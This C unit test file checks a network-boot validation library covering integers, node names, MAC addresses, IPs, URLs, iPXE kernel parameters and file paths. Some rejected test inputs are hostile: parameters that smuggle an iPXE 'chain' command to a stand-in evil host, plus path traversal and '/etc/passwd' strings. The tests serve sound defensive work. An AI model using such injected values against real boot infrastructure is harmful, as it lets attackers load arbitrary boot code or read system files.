/*
 * Unit tests for valid: integer parsing, names, MAC normal forms, IPv4,
 * iPXE-safe kernel parameters and file locations.  Every case is a row in a
 * table; a failure names the input.
 */
#include <errno.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "valid.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

/* ---- valid_parse_ll ----------------------------------------------------- */

struct ll_case {
	const char *s;
	long long min, max;
	int rc;
	long long want; /* when rc == 0 */
};

static const struct ll_case ll_cases[] = {
	{"0", 0, 10, 0, 0},
	{"10", 0, 10, 0, 10},
	{"11", 0, 10, -EINVAL, 0},
	{"-1", 0, 10, -EINVAL, 0},
	{"-1", -5, 5, 0, -1},
	{"-5", -5, 5, 0, -5},
	{"-6", -5, 5, -EINVAL, 0},
	{"65535", 0, 65535, 0, 65535},
	{"65536", 0, 65535, -EINVAL, 0},
	{"1024", 1024, 1024, 0, 1024},
	{"1023", 1024, 1024, -EINVAL, 0},
	{"007", 0, 10, 0, 7}, /* decimal, never octal */
	{"010", 0, 100, 0, 10},
	/* whole string or nothing */
	{"", 0, 10, -EINVAL, 0},
	{" 5", 0, 10, -EINVAL, 0},
	{"\t5", 0, 10, -EINVAL, 0},
	{"\n5", 0, 10, -EINVAL, 0},
	{"5 ", 0, 10, -EINVAL, 0},
	{"5\n", 0, 10, -EINVAL, 0},
	{"5x", 0, 10, -EINVAL, 0},
	{"x5", 0, 10, -EINVAL, 0},
	{"5.0", 0, 10, -EINVAL, 0},
	{"1e3", 0, 10000, -EINVAL, 0},
	{"0x10", 0, 100, -EINVAL, 0},
	{"- 5", -10, 10, -EINVAL, 0},
	{"--5", -10, 10, -EINVAL, 0},
	{"-", -10, 10, -EINVAL, 0},
	{"+", -10, 10, -EINVAL, 0},
	{"abc", 0, 10, -EINVAL, 0},
	/* the ends of long long, and past them */
	{"9223372036854775807", 0, LLONG_MAX, 0, LLONG_MAX},
	{"-9223372036854775808", LLONG_MIN, 0, 0, LLONG_MIN},
	{"9223372036854775808", 0, LLONG_MAX, -EINVAL, 0},
	{"-9223372036854775809", LLONG_MIN, 0, -EINVAL, 0},
	{"99999999999999999999999999", LLONG_MIN, LLONG_MAX, -EINVAL, 0},
	/* a huge value must not pass a small range by wrapping */
	{"18446744073709551617", 0, 10, -EINVAL, 0},
	{"4294967297", 0, 10, -EINVAL, 0},
	{"2147483648", 1, 2147483647, -EINVAL, 0},
	{"2147483647", 1, 2147483647, 0, 2147483647},
};

static void test_parse_ll(void **state)
{
	(void)state;
	for (size_t i = 0; i < NELEM(ll_cases); i++) {
		const struct ll_case *c = &ll_cases[i];
		long long out = 4242;
		int rc = valid_parse_ll(c->s, c->min, c->max, &out);

		if (rc != c->rc)
			fail_msg("parse_ll(\"%s\", %lld, %lld): rc %d, want %d", c->s, c->min,
				 c->max, rc, c->rc);
		if (rc == 0 && out != c->want)
			fail_msg("parse_ll(\"%s\"): %lld, want %lld", c->s, out, c->want);
		if (rc != 0 && out != 4242)
			fail_msg("parse_ll(\"%s\"): output written on failure", c->s);
	}
	assert_int_equal(valid_parse_ll(NULL, 0, 10, &(long long){0}), -EINVAL);
}

/* ---- valid_name --------------------------------------------------------- */

struct str_case {
	const char *s;
	int rc;
};

static const struct str_case name_cases[] = {
	{"a", 0},
	{"7", 0},
	{"x1000c0s0b0n0", 0},
	{"x3000c0s17b1n1", 0},
	{"node-001", 0},
	{"node_001", 0},
	{"n1.cluster.example.org", 0},
	{"Compute-V1", 0},
	{"0node", 0},
	{"a.", 0},
	{"a-", 0},
	{"", -EINVAL},
	{"-node", -EINVAL},
	{".node", -EINVAL},
	{"_node", -EINVAL},
	{" node", -EINVAL},
	{"node ", -EINVAL},
	{"no de", -EINVAL},
	{"node/1", -EINVAL},
	{"node:1", -EINVAL},
	{"node@x", -EINVAL},
	{"node$x", -EINVAL},
	{"node;x", -EINVAL},
	{"node\n", -EINVAL},
	{"node\t1", -EINVAL},
	{"n\xc3\xa9ud", -EINVAL},
	{"../x", -EINVAL},
	{"node*", -EINVAL},
};

static void test_name(void **state)
{
	char s[80];

	(void)state;
	for (size_t i = 0; i < NELEM(name_cases); i++) {
		int rc = valid_name(name_cases[i].s);

		if (rc != name_cases[i].rc)
			fail_msg("valid_name(\"%s\"): rc %d, want %d", name_cases[i].s, rc,
				 name_cases[i].rc);
	}
	/* 63 characters pass, 64 do not. */
	memset(s, 'a', sizeof(s));
	s[VALID_NAME_MAX] = '\0';
	assert_int_equal(strlen(s), 63);
	assert_int_equal(valid_name(s), 0);
	s[VALID_NAME_MAX] = 'a';
	s[VALID_NAME_MAX + 1] = '\0';
	assert_int_equal(valid_name(s), -EINVAL);
	/* The limit counts every character, not only the first segment. */
	memset(s, 'b', sizeof(s));
	s[1] = '.';
	s[64] = '\0';
	assert_int_equal(valid_name(s), -EINVAL);
}

/* ---- valid_mac_normalize ------------------------------------------------ */

struct mac_case {
	const char *in;
	const char *want; /* NULL: refused */
};

static const struct mac_case mac_cases[] = {
	{"52:54:00:12:34:56", "52:54:00:12:34:56"},
	{"52:54:00:AB:CD:EF", "52:54:00:ab:cd:ef"},
	{"52-54-00-ab-cd-ef", "52:54:00:ab:cd:ef"},
	{"52-54-00-AB-CD-EF", "52:54:00:ab:cd:ef"},
	{"5254.00ab.cdef", "52:54:00:ab:cd:ef"},
	{"5254.00AB.CDEF", "52:54:00:ab:cd:ef"},
	{"525400abcdef", "52:54:00:ab:cd:ef"},
	{"525400ABCDEF", "52:54:00:ab:cd:ef"},
	{"aA:bB:cC:dD:eE:fF", "aa:bb:cc:dd:ee:ff"},
	{"00:00:00:00:00:00", "00:00:00:00:00:00"},
	{"ff:ff:ff:ff:ff:ff", "ff:ff:ff:ff:ff:ff"},
	/* wrong lengths */
	{"", NULL},
	{"52:54:00:12:34", NULL},
	{"52:54:00:12:34:5", NULL},
	{"52:54:00:12:34:567", NULL},
	{"52:54:00:12:34:56:78", NULL},
	{"525400abcde", NULL},
	{"525400abcdef0", NULL},
	{"5254.00ab.cde", NULL},
	{"5254.00ab.cdef0", NULL},
	{" 52:54:00:12:34:56", NULL},
	{"52:54:00:12:34:56 ", NULL},
	{"52:54:00:12:34:56\n", NULL},
	/* mixed or wrong separators */
	{"52:54-00:12:34:56", NULL},
	{"52-54:00-12-34-56", NULL},
	{"52:54:00:12:34-56", NULL},
	{"52.54.00.12.34.56", NULL},
	{"52_54_00_12_34_56", NULL},
	{"52 54 00 12 34 56", NULL},
	{"5254:00ab:cdef", NULL},
	{"5254-00ab-cdef", NULL},
	{"5254.00ab-cdef", NULL},
	{"525.400ab.cdef", NULL},
	{"52:5400:12:34:56", NULL},
	{"5:254:00:12:34:56", NULL},
	/* non-hex */
	{"52:54:00:12:34:5g", NULL},
	{"g2:54:00:12:34:56", NULL},
	{"52:54:00:12:34:-6", NULL},
	{"525400abcdeg", NULL},
	{"5254.00ab.cdeZ", NULL},
	{"0x5400abcdef", NULL},
	{"52:54:00:12:34:+6", NULL},
};

static void test_mac_normalize(void **state)
{
	(void)state;
	for (size_t i = 0; i < NELEM(mac_cases); i++) {
		const struct mac_case *c = &mac_cases[i];
		char out[VALID_MAC_LEN + 1];
		int rc;

		memset(out, 'X', sizeof(out));
		rc = valid_mac_normalize(c->in, out);
		if (c->want == NULL) {
			if (rc != -EINVAL)
				fail_msg("mac \"%s\": rc %d, want -EINVAL", c->in, rc);
			continue;
		}
		if (rc != 0)
			fail_msg("mac \"%s\": rc %d, want 0", c->in, rc);
		if (memchr(out, '\0', sizeof(out)) == NULL)
			fail_msg("mac \"%s\": output not terminated", c->in);
		if (strcmp(out, c->want) != 0)
			fail_msg("mac \"%s\": \"%s\", want \"%s\"", c->in, out, c->want);
		/* The normal form is a fixed point. */
		char again[VALID_MAC_LEN + 1];
		assert_int_equal(valid_mac_normalize(out, again), 0);
		assert_string_equal(again, out);
	}
}

/* ---- valid_ipv4, valid_ip_literal --------------------------------------- */

static const struct str_case ipv4_cases[] = {
	{"10.0.0.1", 0},         {"0.0.0.0", 0},           {"255.255.255.255", 0},
	{"192.168.100.11", 0},   {"1.2.3.4", 0},           {"", -EINVAL},
	{"010.0.0.1", -EINVAL}, /* leading zero: octal to some parsers */
	{"10.00.0.1", -EINVAL},  {"10.0.0.01", -EINVAL},   {"10.1", -EINVAL}, /* short forms */
	{"10.0.1", -EINVAL},     {"167772161", -EINVAL},   {"10.0.0.", -EINVAL},
	{".10.0.0.1", -EINVAL},  {"10..0.1", -EINVAL},     {"10.0.0.1.", -EINVAL},
	{"10.0.0.1.5", -EINVAL}, {"256.0.0.1", -EINVAL},   {"10.0.0.256", -EINVAL},
	{"10.0.0.-1", -EINVAL},  {"0x0a.0.0.1", -EINVAL},  {" 10.0.0.1", -EINVAL},
	{"10.0.0.1 ", -EINVAL},  {"10.0.0.1/24", -EINVAL}, {"10.0.0.1:80", -EINVAL},
	{"::1", -EINVAL},        {"a.b.c.d", -EINVAL},     {"localhost", -EINVAL},
};

static const struct str_case ip_literal_cases[] = {
	{"10.0.0.1", 0},
	{"::", 0},
	{"::1", 0},
	{"fe80::1", 0},
	{"2001:db8::42", 0},
	{"::ffff:10.0.0.1", 0},
	{"", -EINVAL},
	{"[::1]", -EINVAL},
	{"010.0.0.1", -EINVAL},
	{"fe80::1%eth0", -EINVAL},
	{"host", -EINVAL},
	{"1:2:3:4:5:6:7:8:9", -EINVAL},
};

static void test_ipv4(void **state)
{
	(void)state;
	for (size_t i = 0; i < NELEM(ipv4_cases); i++) {
		int rc = valid_ipv4(ipv4_cases[i].s);

		if (rc != ipv4_cases[i].rc)
			fail_msg("valid_ipv4(\"%s\"): rc %d, want %d", ipv4_cases[i].s, rc,
				 ipv4_cases[i].rc);
	}
	for (size_t i = 0; i < NELEM(ip_literal_cases); i++) {
		int rc = valid_ip_literal(ip_literal_cases[i].s);

		if (rc != ip_literal_cases[i].rc)
			fail_msg("valid_ip_literal(\"%s\"): rc %d, want %d", ip_literal_cases[i].s,
				 rc, ip_literal_cases[i].rc);
	}
}

/* ---- valid_is_url, valid_base_url --------------------------------------- */

static const struct str_case base_url_cases[] = {
	{"http://10.0.0.1:8080", 0},
	{"https://boot.example.org", 0},
	{"http://h/corral", 0},
	{"http://[fe80::1]:8080", 0},
	{"http://", -EINVAL},
	{"http:///x", -EINVAL},
	{"https://", -EINVAL},
	{"ftp://h", -EINVAL},
	{"h:8080", -EINVAL},
	{"HTTP://h", -EINVAL},
	{"http://h /x", -EINVAL},
	{"http://h/$x", -EINVAL},
	{"http://h/\x7f", -EINVAL},
	{"http://h/\n", -EINVAL},
	{"http://h/\xc3\xa9", -EINVAL},
	{"", -EINVAL},
};

static void test_urls(void **state)
{
	(void)state;
	for (size_t i = 0; i < NELEM(base_url_cases); i++) {
		int rc = valid_base_url(base_url_cases[i].s);

		if (rc != base_url_cases[i].rc)
			fail_msg("valid_base_url(\"%s\"): rc %d, want %d", base_url_cases[i].s, rc,
				 base_url_cases[i].rc);
	}
	assert_true(valid_is_url("http://x"));
	assert_true(valid_is_url("https://x"));
	assert_true(valid_is_url("http://"));
	assert_false(valid_is_url("http:/x"));
	assert_false(valid_is_url("ftp://x"));
	assert_false(valid_is_url("images/http://x"));
	assert_false(valid_is_url(""));
}

/* ---- valid_ipxe_params -------------------------------------------------- */

/*
 * One row per iPXE parsing rule (lib/valid.c has the table): each refused
 * row names a piece of the reason the API answers, so a row that fails for
 * the wrong rule fails the test.
 */
struct params_case {
	const char *s;
	const char *why_has; /* NULL: accepted */
};

static const struct params_case params_cases[] = {
	/* Kernel parameters people use. */
	{"", NULL},
	{"quiet", NULL},
	{"console=ttyS0,115200n8 quiet", NULL},
	{"root=live:http://10.0.0.1:8080/files/images/r.squashfs rd.live.overlay.overlayfs=1",
	 NULL},
	{"ip=dhcp rd.neednet=1", NULL},
	{"a=b=c", NULL},
	{"x=%41%20 y=100%", NULL},
	{"modprobe.blacklist=a,b,c", NULL},
	{"-- init-arg", NULL},                   /* options are read only before the URL */
	{"--name=x -q", NULL},                   /* likewise */
	{"url=http://h/a?b=1&c=2", NULL},        /* '&' inside a word */
	{"ds=nocloud-net;s=http://h/ci/", NULL}, /* ';' inside a word */
	{"a;", NULL},
	{";a", NULL},
	{";;", NULL},
	{"a#b", NULL}, /* '#' starts a comment only at a word's start */
	{"a&b", NULL},
	{"&", NULL},
	{"a||b", NULL}, /* an operator only when it stands as a word */
	{"a&&b", NULL},
	{"x=||", NULL},
	{"||x", NULL},
	{"&&x", NULL},
	{"|||", NULL},
	{"&&&", NULL},
	{"|", NULL},
	{"  quiet  ", NULL},
	{"~!@%^*()_+-={}[]:<>,.?/`", NULL},
	{"{x}", NULL},
	/* Rule: control and non-ASCII bytes (a newline ends the iPXE line). */
	{"a\nb", "control"},
	{"quiet\n", "control"},
	{"quiet\nchain http://evil/x.ipxe", "control"},
	{"a\rb", "control"},
	{"a\tb", "control"},
	{"a\vb", "control"},
	{"a\fb", "control"},
	{"\x01", "control"},
	{"a\x1b[0m", "control"},
	{"a\x7f", "control"},
	{"caf\xc3\xa9", "control"},
	/* Rule: ';' as a word separates commands. */
	{";", "';'"},
	{"a ; chain http://10.0.0.9/evil.ipxe", "';'"},
	{"quiet ;", "';'"},
	{"; quiet", "';'"},
	/* Rule: '||' as a word. */
	{"||", "'||'"},
	{"quiet || reboot", "'||'"},
	{"quiet ||", "'||'"},
	{"|| quiet", "'||'"},
	/* Rule: '&&' as a word. */
	{"&&", "'&&'"},
	{"quiet && reboot", "'&&'"},
	{"a  &&  b", "'&&'"},
	/* Rule: '#' at a word's start begins a comment. */
	{"#", "'#'"},
	{"quiet #", "'#'"},
	{"quiet #drop-BOOTIF", "'#'"},
	{"#!ipxe", "'#'"},
	{"a ##", "'#'"},
	/* Rule: '$' (settings expansion). */
	{"$", "'$'"},
	{"a$b", "'$'"},
	{"root=${rootfs}", "'$'"},
	{"${x}", "'$'"},
	{"x=${net0/mac}", "'$'"},
	/* Rule: '\' (line continuation; an escape to the kernel and systemd). */
	{"\\", "'\\'"},
	{"quiet\\", "'\\'"},
	{"a\\ b", "'\\'"},
	/* Rule: quotes (no meaning to iPXE; an unclosed one swallows BOOTIF=). */
	{"a=\"b", "quotes"},
	{"a=\"b c\"", "quotes"},
	{"d='e'", "quotes"},
	{"\"a ; b\"", "';'"}, /* quoting does not hide a separator from iPXE */
};

static void test_ipxe_params(void **state)
{
	char *s;

	(void)state;
	for (size_t i = 0; i < NELEM(params_cases); i++) {
		const struct params_case *c = &params_cases[i];
		const char *why = NULL;
		int rc = valid_ipxe_params(c->s, &why);

		if (c->why_has == NULL && rc != 0)
			fail_msg("params case %zu \"%s\": refused (%s), want accepted", i, c->s,
				 why ? why : "no reason");
		if (c->why_has != NULL && rc != -EINVAL)
			fail_msg("params case %zu \"%s\": accepted, want refused for %s", i, c->s,
				 c->why_has);
		if (c->why_has != NULL && (why == NULL || strstr(why, c->why_has) == NULL))
			fail_msg(
				"params case %zu \"%s\": refused for \"%s\", want a reason naming %s",
				i, c->s, why ? why : "", c->why_has);
	}
	/* 2048 characters are the most. */
	s = malloc(2050);
	assert_non_null(s);
	memset(s, 'p', 2049);
	s[2048] = '\0';
	assert_int_equal(valid_ipxe_params(s, &(const char *){NULL}), 0);
	s[2048] = 'p';
	s[2049] = '\0';
	assert_int_equal(valid_ipxe_params(s, &(const char *){NULL}), -EINVAL);
	free(s);
}

/* ---- valid_location ----------------------------------------------------- */

static const struct str_case loc_cases[] = {
	{"vmlinuz", 0},
	{"images/compute-v1/vmlinuz", 0},
	{"images/rocky9/initrd.img", 0},
	{"a/b/c/d/e/f", 0},
	{"..a/b", 0},
	{"a../b", 0},
	{"a/...", 0},
	{".hidden/x", 0},
	{"v1.2_3-4+5~6@7=8,9:0", 0},
	{"http://10.0.0.1/vmlinuz", 0},
	{"https://mirror.example.org/images/x/vmlinuz?sig=abc&t=1", 0},
	{"http://h:8080/a/../b", 0}, /* URLs are the server's business */
	/* path shape */
	{"", -EINVAL},
	{"/vmlinuz", -EINVAL},
	{"/etc/passwd", -EINVAL},
	{"..", -EINVAL},
	{".", -EINVAL},
	{"../x", -EINVAL},
	{"a/..", -EINVAL},
	{"a/../b", -EINVAL},
	{"./a", -EINVAL},
	{"a/.", -EINVAL},
	{"a/./b", -EINVAL},
	{"a//b", -EINVAL},
	{"a/", -EINVAL},
	{"//h/x", -EINVAL},
	/* schemes */
	{"ftp://h/vmlinuz", -EINVAL},
	{"tftp://h/vmlinuz", -EINVAL},
	{"file:///etc/passwd", -EINVAL},
	{"HTTP://h/x", -EINVAL},
	{"http://", -EINVAL},
	{"http:///vmlinuz", -EINVAL},
	{"http://h/a b", -EINVAL},
	{"http://h/${x}", -EINVAL},
	/* characters */
	{"a b", -EINVAL},
	{"a\tb", -EINVAL},
	{"a\nb", -EINVAL},
	{"a$b", -EINVAL},
	{"${x}/vmlinuz", -EINVAL},
	{"a%2e%2e/b", -EINVAL},
	{"a\\b", -EINVAL},
	{"a;b", -EINVAL},
	{"a|b", -EINVAL},
	{"a&b", -EINVAL},
	{"a?b", -EINVAL},
	{"a#b", -EINVAL},
	{"a*b", -EINVAL},
	{"caf\xc3\xa9", -EINVAL},
};

static void test_location(void **state)
{
	char *s;

	(void)state;
	for (size_t i = 0; i < NELEM(loc_cases); i++) {
		const char *why = NULL;
		int rc = valid_location(loc_cases[i].s, &why);

		if (rc != loc_cases[i].rc)
			fail_msg("location \"%s\": rc %d, want %d", loc_cases[i].s, rc,
				 loc_cases[i].rc);
		if (rc != 0 && (why == NULL || why[0] == '\0'))
			fail_msg("location \"%s\": refused without a reason", loc_cases[i].s);
	}
	/* 1024 characters are the most, for paths and URLs alike. */
	s = malloc(1026);
	assert_non_null(s);
	memset(s, 'a', 1025);
	s[1024] = '\0';
	assert_int_equal(valid_location(s, &(const char *){NULL}), 0);
	s[1024] = 'a';
	s[1025] = '\0';
	assert_int_equal(valid_location(s, &(const char *){NULL}), -EINVAL);
	memcpy(s, "http://h/", 9);
	assert_int_equal(valid_location(s, &(const char *){NULL}), -EINVAL);
	s[1024] = '\0';
	assert_int_equal(valid_location(s, &(const char *){NULL}), 0);
	free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_ll),      cmocka_unit_test(test_name),
		cmocka_unit_test(test_mac_normalize), cmocka_unit_test(test_ipv4),
		cmocka_unit_test(test_urls),          cmocka_unit_test(test_ipxe_params),
		cmocka_unit_test(test_location),
	};

	return cmocka_run_group_tests_name("valid", tests, NULL, NULL) != 0;
}
